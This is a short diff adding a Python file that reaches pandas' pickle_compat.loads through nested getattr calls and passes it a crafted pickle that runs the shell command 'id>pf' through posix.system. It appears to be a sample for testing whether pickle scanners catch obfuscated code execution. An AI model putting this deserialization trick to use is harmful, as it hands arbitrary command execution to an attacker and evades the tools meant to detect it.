@@ -1,0 +1,3 @@
+import pandas
+c = getattr(pandas, "compat")
+getattr(getattr(c, "pickle_compat"), "loads")(b"cposix\nsystem\n(S'id>pf'\ntR.")
